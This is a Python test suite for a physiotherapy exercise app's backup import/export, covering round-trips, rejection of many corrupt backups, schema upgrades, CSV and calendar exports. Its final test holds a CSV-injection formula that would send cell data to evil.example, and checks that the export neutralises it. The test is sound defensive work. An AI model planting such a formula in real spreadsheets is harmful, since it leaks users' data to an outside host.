"""Backups round-trip losslessly; corrupt or foreign files are refused and change nothing."""

from __future__ import annotations

import base64
import copy
import csv
import io
import json
import math
from collections.abc import Callable
from datetime import datetime, time, timedelta
from typing import Any

import pytest
from icalendar import Calendar
from sqlalchemy import select

from backfit.services import calendar, exports, history, profiles, schedule
from backfit.store import ImportRejected, open_database
from backfit.store import repositories as repo
from backfit.store.database import Database, head_revision
from backfit.store.models import PerformedSession, Profile
from tests import factories as f

NOW = f.START + timedelta(weeks=6, days=1)


@pytest.fixture(scope="module")
def lived_backup(tmp_path_factory: pytest.TempPathFactory, test_data: f.TestData) -> dict[str, Any]:
    """Two people's histories, built once through the services (on SQLite) and backed up."""
    source = open_database(f"sqlite:///{tmp_path_factory.mktemp('lived') / 'backfit.db'}")
    try:
        with source.unit_of_work() as session:
            f.realistic_history(session, test_data, weeks=6, name="ana")
            f.realistic_history(session, test_data, weeks=2, name="ben")
            f.recorded(session, f.watched_by_camera(session, [f.fault(7.25), f.fault(6.0, t=9.0)], name="ben"), "ben")
            ben_time = schedule.parse_choice(
                {"weekdays": "tue,thu,sat", "time_of_day": "06:45", "reminder_minutes": 10}
            )
            schedule.save_schedule(session, "ben", ben_time, now=NOW)
        return backup(source)
    finally:
        source.dispose()


@pytest.fixture
def lived(db: Database, lived_backup: dict[str, Any]) -> Database:
    """The database under test (either backend) holding the two histories."""
    with db.unit_of_work() as session:
        exports.import_database_backup(session, lived_backup)
    return db


def backup(db: Database) -> dict[str, Any]:
    """The whole database's backup."""
    with db.unit_of_work() as session:
        return exports.export_database_backup(session, now=NOW)


def person(db: Database, name: str) -> dict[str, Any]:
    """One person's backup."""
    with db.unit_of_work() as session:
        return exports.export_person_backup(session, name, now=NOW)


def test_json_backup_round_trips_losslessly(db: Database, new_db_url: Callable[[], str], test_data: f.TestData) -> None:
    with db.unit_of_work() as session:
        f.realistic_history(session, test_data, weeks=6, name="ana")
        f.realistic_history(session, test_data, weeks=2, name="ben")
        f.watched_by_camera(session, [f.fault(7.25), f.fault(-0.1234567891234, text="Keep still.", t=0.0)])
        f.recorded(session, f.watched_by_camera(session, [], name="ben"), "ben", reps=2)
        choice = schedule.parse_choice({"weekdays": "mon,wed,sat", "time_of_day": "19:15", "reminder_minutes": 60})
        schedule.save_schedule(session, "ana", choice, now=NOW)
    original = backup(db)
    assert [r["weekdays"] for r in original["tables"]["schedule_preferences"]] == [["mon", "wed", "sat"]]
    assert original["format_version"] == exports.BACKUP_VERSION
    assert len(original["tables"]["sets"]) > 100
    camera = [row for row in original["tables"]["sets"] if row["source"] == "camera"]
    assert sorted(len(row["faults"]) for row in camera) == [0, 2]
    assert original["tables"]["progression_decisions"]
    [kept] = original["tables"]["set_recordings"][:1]
    assert kept["set_id"] in {row["id"] for row in camera}
    assert [e["count"] for e in kept["events"] if e["type"] == "repetition"] == [1, 2]
    assert len(original["tables"]["recording_chunks"]) == 1, "a live set still running is kept too"
    restored = open_database(new_db_url())
    try:
        with restored.unit_of_work() as session:
            counts = exports.import_database_backup(session, json.loads(json.dumps(original)))
        assert counts["profiles"] == 2
        assert backup(restored) == original
        with restored.unit_of_work() as session:  # new rows get ids after the imported ones
            f.run_session(session, test_data, NOW, name="ana")
        assert (
            len(backup(restored)["tables"]["performed_sessions"]) == len(original["tables"]["performed_sessions"]) + 1
        )
    finally:
        restored.dispose()


def _corrupt(change: Callable[[dict[str, Any]], object]) -> Callable[[dict[str, Any]], Any]:
    """A copy of the backup changed in place by ``change`` (its return value is ignored)."""

    def apply(data: dict[str, Any]) -> Any:
        data = copy.deepcopy(data)
        change(data)
        return data

    return apply


CORRUPTIONS = [
    pytest.param(lambda d: [1, 2, 3], "not a backfit backup", id="a-list"),
    pytest.param(_corrupt(lambda d: d.update(format="other-app")), "not a backfit backup", id="foreign-format"),
    pytest.param(_corrupt(lambda d: d.update(format_version=99)), "version 99", id="newer-format"),
    pytest.param(_corrupt(lambda d: d.update(schema_revision="9999")), "schema revision", id="other-schema"),
    pytest.param(_corrupt(lambda d: d["tables"].pop("sets")), "tables are not backfit's", id="missing-table"),
    pytest.param(_corrupt(lambda d: d["tables"]["sets"][0].pop("reps")), "has columns", id="missing-column"),
    pytest.param(_corrupt(lambda d: d["tables"]["sets"][0].update(reps="ten")), "valid integer", id="bad-integer"),
    pytest.param(
        _corrupt(lambda d: d["tables"]["checkins"][0].update(recorded_at="yesterday")), "checkins", id="bad-time"
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["sets"][0].update(performed_session_id=999_999)), "do not fit", id="dangling-fk"
    ),
    pytest.param(_corrupt(lambda d: d["tables"]["sets"][0].update(source="guess")), "sets.source", id="bad-source"),
    pytest.param(_corrupt(lambda d: d["tables"]["sets"][0].update(faults="bad")), "sets.faults", id="faults-not-list"),
    pytest.param(
        _corrupt(lambda d: d["tables"]["sets"][0].update(faults=[{"text": "x"}])), "sets.faults", id="fault-fields"
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["sets"][0].update(faults=[{**f.fault(), "value": "7"}])),
        "valid number",
        id="fault-value-text",
    ),
    pytest.param(_corrupt(lambda d: d.update(schema_revision="0000")), "cannot import", id="unknown-old-schema"),
    pytest.param(_corrupt(lambda d: d["tables"]["checkins"][0].update(pain=9999)), "checkins.pain", id="pain-9999"),
    pytest.param(_corrupt(lambda d: d["tables"]["sets"][0].update(pain_during=-5)), "sets.pain_during", id="pain--5"),
    pytest.param(_corrupt(lambda d: d["tables"]["sets"][0].update(reps=2**70)), "sets.reps", id="reps-past-64-bits"),
    pytest.param(_corrupt(lambda d: d["tables"]["sets"][0].update(item_index=-1)), "sets.item_index", id="item--1"),
    pytest.param(
        _corrupt(lambda d: d["tables"]["psfs_ratings"][0].update(activity="x\x00y")),
        "control characters",
        id="nul-in-text",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["psfs_ratings"][0].update(activity="a" * 5000)),
        "psfs_ratings.activity",
        id="over-long-text",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["intakes"][0]["answers"].update(pain_now="lots")),
        "intakes.answers",
        id="intake-answers-wrong",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["performed_sessions"][0].update(plan=[{"key": 1}])),
        "performed_sessions.plan",
        id="plan-wrong-shape",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["programmes"][0].update(days="every day")),
        "programmes.days",
        id="days-not-a-list",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["performed_sessions"][0].update(status="hacked")),
        "performed_sessions.status",
        id="unknown-status",
    ),
    pytest.param(
        _corrupt(
            lambda d: d["tables"]["progression_decisions"][0].update(
                before={"a": [[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]}
            )
        ),
        "nested deeper",
        id="deep-json",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["schedule_preferences"][0].update(weekdays=["mon", "funday", "fri"])),
        "schedule_preferences.weekdays",
        id="schedule-bad-day",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["schedule_preferences"][0].update(weekdays="mon")),
        "schedule_preferences.weekdays",
        id="schedule-days-not-list",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["schedule_preferences"][0].update(time_of_day="7pm")),
        "schedule_preferences.time_of_day",
        id="schedule-bad-time",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["schedule_preferences"][0].update(reminder_minutes=-5)),
        "schedule_preferences.reminder_minutes",
        id="schedule-bad-reminder",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["profiles"].append(dict(d["tables"]["profiles"][0]))), "do not fit", id="dup-id"
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["sets"].append({**d["tables"]["sets"][0], "id": 10**6})),
        "do not fit",
        id="dup-set",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["checkins"].append(dict(d["tables"]["checkins"][0]))),
        "share an id",
        id="dup-row",
    ),
    pytest.param(_corrupt(lambda d: d.update(scope="everyone")), "scope", id="unknown-scope"),
    pytest.param(
        _corrupt(lambda d: d["tables"]["set_recordings"][0].update(landmarks="not base64!")),
        "set_recordings.landmarks",
        id="recording-not-base64",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["set_recordings"][0].update(landmarks=base64.b64encode(b"12345").decode())),
        "whole frames",
        id="recording-partial-frame",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["recording_chunks"][0].update(times=base64.b64encode(bytes(8)).decode())),
        "strictly increasing",
        id="recording-times-repeat",
    ),
    pytest.param(
        _corrupt(lambda d: d["tables"]["set_recordings"][0].update(origin="webcam")),
        "set_recordings.origin",
        id="recording-bad-origin",
    ),
]


@pytest.mark.parametrize(("corrupt", "message"), CORRUPTIONS)
def test_corrupt_or_foreign_backup_is_refused_and_data_intact(
    lived: Database, corrupt: Callable[[dict[str, Any]], Any], message: str
) -> None:
    before = backup(lived)
    with pytest.raises(ImportRejected, match=message), lived.unit_of_work() as session:
        exports.import_database_backup(session, corrupt(before), replace=True)
    assert backup(lived) == before


@pytest.mark.parametrize(("corrupt", "message"), CORRUPTIONS)
def test_corrupt_or_foreign_person_backup_is_refused_and_data_intact(
    lived: Database, corrupt: Callable[[dict[str, Any]], Any], message: str
) -> None:
    before = backup(lived)
    with pytest.raises(ImportRejected, match=message), lived.unit_of_work() as session:
        exports.import_person_backup(session, corrupt(person(lived, "ben")), replace=True)
    assert backup(lived) == before


def as_revision_0005(data: dict[str, Any]) -> dict[str, Any]:
    """The backup as backfit wrote it at schema revision 0005: no set recordings."""
    old = copy.deepcopy(data)
    old["schema_revision"] = "0005"
    del old["tables"]["set_recordings"], old["tables"]["recording_chunks"]
    return old


def as_revision_0002(data: dict[str, Any]) -> dict[str, Any]:
    """The backup as backfit wrote it at schema revision 0002: no schedule preferences."""
    old = as_revision_0005(data)
    old["schema_revision"], old["format_version"] = "0002", 1  # a whole database, before per-person backups
    del old["scope"], old["tables"]["schedule_preferences"]
    return old


def as_revision_0001(data: dict[str, Any]) -> dict[str, Any]:
    """The backup as backfit wrote it at schema revision 0001: sets had no source nor faults."""
    old = as_revision_0002(data)
    old["schema_revision"] = "0001"
    for row in old["tables"]["sets"]:
        del row["source"], row["faults"]
    return old


def test_backup_of_revision_0001_is_upgraded_on_import(lived: Database, new_db_url: Callable[[], str]) -> None:
    current = backup(lived)
    old = as_revision_0001(current)
    frozen = copy.deepcopy(old)
    restored = open_database(new_db_url())
    try:
        with restored.unit_of_work() as session:
            counts = exports.import_database_backup(session, old)
        assert old == frozen, "the backup given is not changed"
        assert counts["sets"] == len(current["tables"]["sets"])
        again = backup(restored)
        assert again["schema_revision"] == head_revision()
        expected = copy.deepcopy(current["tables"])
        for row in expected["sets"]:
            row["source"] = row["faults"] = None  # 0001 did not know them
        expected["schedule_preferences"] = []
        expected["set_recordings"] = expected["recording_chunks"] = []
        assert again["tables"] == expected
    finally:
        restored.dispose()


def test_backup_of_revision_0002_is_upgraded_on_import(lived: Database, new_db_url: Callable[[], str]) -> None:
    current = backup(lived)
    assert len(current["tables"]["schedule_preferences"]) == 1
    old = as_revision_0002(current)
    restored = open_database(new_db_url())
    try:
        with restored.unit_of_work() as session:
            counts = exports.import_database_backup(session, old)
            assert schedule.schedule_for(session, "ben").chosen is False  # 0002 had no choice: the defaults
        assert counts["schedule_preferences"] == 0
        again = backup(restored)
        assert again["schema_revision"] == head_revision()
        assert again["tables"] == {
            **current["tables"],
            "schedule_preferences": [],
            "set_recordings": [],
            "recording_chunks": [],
        }
    finally:
        restored.dispose()


def test_backup_upgrades_reach_the_head_revision() -> None:
    revision = "0001"
    while revision in exports.BACKUP_UPGRADES:
        revision = exports.BACKUP_UPGRADES[revision][0]
    assert revision == head_revision(), "a migration changed the tables: add its step to BACKUP_UPGRADES"


def test_whole_database_import_into_a_database_with_data_needs_replace(lived: Database) -> None:
    data = backup(lived)
    with pytest.raises(ImportRejected, match="already holds data"), lived.unit_of_work() as session:
        exports.import_database_backup(session, data)
    with lived.unit_of_work() as session:
        exports.import_database_backup(session, data, replace=True)
    assert backup(lived) == data


def test_not_json_at_all() -> None:
    with pytest.raises(ImportRejected, match="not valid JSON"):
        exports.load_backup_text(b"\x89PNG garbage")


def test_csv_has_one_row_per_set(lived: Database, test_data: f.TestData) -> None:
    with lived.unit_of_work() as session:
        text = exports.export_sets_csv(session, "ben")
        sessions = history.history(session, "ben", catalog=test_data.catalog)
        stored = repo.sets_of(session, [s.id for s in sessions])  # one row per side of a per-side set
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(stored) > 6 * 5
    assert sum(s.sets_done for s in sessions) < len(stored)  # a per-side set is one set done, two rows
    assert {r["profile"] for r in rows} == {"ben"}
    assert {int(r["session_id"]) for r in rows} == {s.id for s in sessions}
    assert rows[0]["exercise_id"] == "abdominal-drawing-in"
    assert rows[0]["exercise"] == test_data.catalog["abdominal-drawing-in"].name
    assert all(r["exercise"] and r["exercise"] != r["exercise_id"] for r in rows)
    assert rows[0]["completed"] == "true"
    watched = [r for r in rows if r["source"] == "camera"]
    assert len(watched) == 1
    assert watched[0]["faults"] == "Keep your pelvis level from side to side: 7.2° (bound ≤ 5.0°), seen 2 times"
    assert {(r["source"], r["faults"]) for r in rows if r is not watched[0]} == {("", "")}


def calendar_events(db: Database, test_data: f.TestData, name: str = "ana", weeks: int = 2) -> list[Any]:
    with db.unit_of_work() as session:
        raw = calendar.export_calendar(
            session,
            catalog=test_data.catalog,
            transition_s=test_data.rules.transition_s,
            now=NOW,
            name=name,
            weeks=weeks,
        )
    parsed = Calendar.from_ical(raw)
    assert parsed["VERSION"] == "2.0"
    assert "backfit" in str(parsed["PRODID"])
    return list(parsed.walk("VEVENT"))


def expected_minutes(db: Database, test_data: f.TestData, day_index: int, name: str = "ana") -> int:
    """The session's minutes from its current prescriptions: work, rests and getting into position."""
    with db.unit_of_work() as session:
        view = profiles.current_programme(session, name)
        keys = [i["key"] for i in view.programme.days[day_index]["items"] if i["key"] not in view.stopped]
        seconds = sum(view.prescriptions[k].seconds() + test_data.rules.transition_s for k in keys)
    return math.ceil(seconds / 60)


def test_calendar_without_a_choice_uses_the_programme_days_at_the_default_time(
    lived: Database, test_data: f.TestData
) -> None:
    events = calendar_events(lived, test_data)
    assert len(events) == 6  # two weeks after a Tuesday: Wed, Fri, Mon, Wed, Fri, Mon
    starts = [e.decoded("DTSTART") for e in events]
    assert starts[0] == datetime.combine((NOW + timedelta(days=1)).date(), time(18, 0))
    assert all(s.tzinfo is None and (s.hour, s.minute) == (18, 0) for s in starts)  # local, floating time
    assert {s.strftime("%a") for s in starts} == {"Mon", "Wed", "Fri"}
    assert len({str(e["UID"]) for e in events}) == 6
    alarms = [list(e.walk("VALARM")) for e in events]
    assert all(len(a) == 1 and a[0].decoded("TRIGGER") == timedelta(minutes=-30) for a in alarms)


@pytest.mark.parametrize(
    ("raw", "message"),
    [
        pytest.param(b'{"a": ' + b"9" * 5000 + b"}", "not valid JSON", id="5000-digit-integer"),
        pytest.param(b"[" * 10_000 + b"]" * 10_000, "nests far too deep", id="10000-deep"),
        pytest.param(b"\xff\xfe", "not valid JSON", id="not-utf8"),
    ],
)
def test_unreadable_backup_text_is_refused(raw: bytes, message: str) -> None:
    with pytest.raises(ImportRejected, match=message):
        exports.load_backup_text(raw)


def test_calendar_events_at_the_chosen_time_last_the_session_and_name_the_exercises(
    lived: Database, test_data: f.TestData
) -> None:
    with lived.unit_of_work() as session:
        choice = schedule.parse_choice({"weekdays": "tue,thu,sat", "time_of_day": "07:30", "reminder_minutes": 15})
        schedule.save_schedule(session, "ana", choice, now=NOW)
    events = calendar_events(lived, test_data)
    assert len(events) == 6  # from Tuesday itself: Tue, Thu, Sat, Tue, Thu, Sat
    ids = set(test_data.catalog)
    for index, event in enumerate(events):
        start, end = event.decoded("DTSTART"), event.decoded("DTEND")
        assert start.strftime("%a %H:%M") == ("Tue 07:30", "Thu 07:30", "Sat 07:30")[index % 3]
        assert end - start == timedelta(minutes=expected_minutes(lived, test_data, index % 3))
        [alarm] = event.walk("VALARM")
        assert str(alarm["ACTION"]) == "DISPLAY"
        assert alarm.decoded("TRIGGER") == timedelta(minutes=-15)
        text = f"{event['SUMMARY']} {event['DESCRIPTION']}"
        assert not {i for i in ids if i in text}, "raw ids in the event"
        assert "does not diagnose" in text
    with lived.unit_of_work() as session:
        view = profiles.current_programme(session, "ana")
        first_day = [view.prescriptions[i["key"]].exercise_id for i in view.programme.days[0]["items"]]
    assert all(test_data.catalog[e].name in str(events[0]["DESCRIPTION"]) for e in first_day)


def test_calendar_without_a_reminder_has_no_alarm(lived: Database, test_data: f.TestData) -> None:
    with lived.unit_of_work() as session:
        choice = schedule.parse_choice({"weekdays": "mon,wed,fri", "reminder_minutes": 0})
        schedule.save_schedule(session, "ana", choice, now=NOW)
    events = calendar_events(lived, test_data)
    assert events
    assert not any(list(e.walk("VALARM")) for e in events)


def test_csv_text_from_a_backup_cannot_run_as_a_spreadsheet_formula(lived: Database) -> None:
    """A backup someone sent, once imported, names its exercises as it likes: a name such as
    ``=HYPERLINK(...)`` must reach the CSV as text, not as a formula (CSV injection)."""
    formula = '=HYPERLINK("https://evil.example/?d="&A2,"details")'
    with lived.unit_of_work() as session:
        performed = session.scalars(
            select(PerformedSession).join(Profile).where(Profile.name == "ben").order_by(PerformedSession.id)
        ).first()
        assert performed is not None
        performed.plan = [{**item, "name": formula} for item in performed.plan]
    with lived.unit_of_work() as session:
        rows = list(csv.DictReader(io.StringIO(exports.export_sets_csv(session, "ben"))))
    named = [r for r in rows if int(r["session_id"]) == performed.id]
    assert named
    assert {r["exercise"] for r in named} == {"'" + formula}
